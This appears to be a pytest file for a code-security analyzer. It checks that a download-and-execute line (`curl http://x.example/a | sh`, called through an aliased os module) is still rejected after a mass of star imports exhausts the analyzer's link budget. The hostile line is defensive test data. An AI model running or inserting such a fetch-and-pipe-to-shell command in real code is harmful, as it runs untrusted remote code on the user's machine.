"""Session 46: fail closed, stay up, hide nothing.

- program.MAX_LINKS (20,000 names linked per program): past it every name that leads into the job's modules was
  unresolved, so a web of star imports that used the links up first made a threat written after it through the
  job's own module (`tools.shell.system('curl ... | sh')`, tools.py `import os as shell`) unresolved: escalate,
  the reject unreported, whether in the same module or another. Past the bound each name of the job's code now
  gets program.PAST_LINKS links of its own.
"""

from __future__ import annotations

from pathlib import Path

import pytest

import redteam_kit as kit
from analyzer.model import Decision

FETCH_AND_RUN = "remote-code.fetch-and-run-command"
THREAT = "import tools\ntools.shell.system('curl http://x.example/a | sh')\n"


def _star_web(names: int, modules: int = 16) -> dict[str, str]:
    """`modules` modules each star-importing every other one, and main.py naming `names` attributes of the first
    that none binds: linking the first alone uses up the program's links."""
    files = {f"m{i}.py": "".join(f"from m{j} import *\n" for j in range(modules) if j != i) + f"x{i} = 1\n"
             for i in range(modules)}
    files["main.py"] = "import m0\n" + "".join(f"m0.a{k}()\n" for k in range(names))
    files["tools.py"] = "import os as shell\n"
    return files


@pytest.mark.parametrize("where", ["main.py", "zz.py"], ids=["same-module", "module-after"])
def test_a_threat_through_the_jobs_module_after_the_links_are_used_up_rejects(tmp_path: Path, where: str) -> None:
    files = _star_web(30)
    files[where] = files.get(where, "") + THREAT
    report = kit.scan_files(tmp_path, files)
    assert report.decision is Decision.REJECT, kit.findings(report)
    line = files[where].count("\n")
    assert (FETCH_AND_RUN, where, line) in {(f.rule, f.path, f.line) for f in report.findings}
    # the names past the bound stay unresolved (never accepted), beside the reject
    assert ("unvouched.unresolved", "main.py", 2) in {(f.rule, f.path, f.line) for f in report.findings}
